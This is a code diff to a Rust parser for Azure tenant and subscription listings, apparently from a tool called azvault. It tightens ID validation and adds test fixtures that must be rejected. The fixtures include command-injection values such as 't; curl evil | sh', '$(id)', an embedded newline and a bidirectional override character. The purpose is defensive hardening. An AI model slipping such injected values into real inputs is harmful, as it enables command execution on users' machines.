@@ -7,7 +7,7 @@ use serde::Deserialize;
 use serde_json::value::RawValue;
 use url::Url;
 
-use crate::error::{Error, ProviderError, sanitised};
+use crate::error::{Error, ProviderError, is_code, sanitised};
 use crate::http::{Ask, Header, Http, Plain, Repeat, Reply};
 use crate::json;
 
@@ -142,7 +142,7 @@ pub fn tenants_of(text: &str) -> Result<Page<Tenant>, &'static str> {
     let tenant = |raw: &RawValue| {
         let body: TenantBody<'_> = serde_json::from_str(raw.get()).ok()?;
         Some(Tenant {
-            id: json::text(body.tenant_id).filter(|id| !id.is_empty())?,
+            id: json::text(body.tenant_id).filter(|id| is_code(id))?,
             name: json::text(body.display_name),
             default_domain: json::text(body.default_domain),
             category: json::text(body.tenant_category),
@@ -179,7 +179,7 @@ pub fn subscriptions_of(text: &str) -> Result<Page<Subscription>, &'static str> 
         let body: SubscriptionBody<'_> = serde_json::from_str(raw.get()).ok()?;
         let managers = body.managed_by.unwrap_or_default();
         Some(Subscription {
-            id: json::text(body.subscription_id).filter(|id| !id.is_empty())?,
+            id: json::text(body.subscription_id).filter(|id| is_code(id))?,
             name: json::text(body.display_name),
             state: json::text(body.state),
             home_tenant: json::text(body.tenant_id),
@@ -265,6 +265,10 @@ mod tests {
             r#"{"value":[1]}"#,
             r#"{"value":[{}]}"#,
             r#"{"value":null}"#,
+            // Ids stand in commands that azvault shows to be typed.
+            r#"{"value":[{"tenantId":"","subscriptionId":""}]}"#,
+            r#"{"value":[{"tenantId":"t; curl evil | sh","subscriptionId":"s\nt"}]}"#,
+            r#"{"value":[{"tenantId":"$(id)","subscriptionId":"\u202es"}]}"#,
         ] {
             assert!(tenants_of(text).is_err(), "{text}");
             assert!(subscriptions_of(text).is_err(), "{text}");
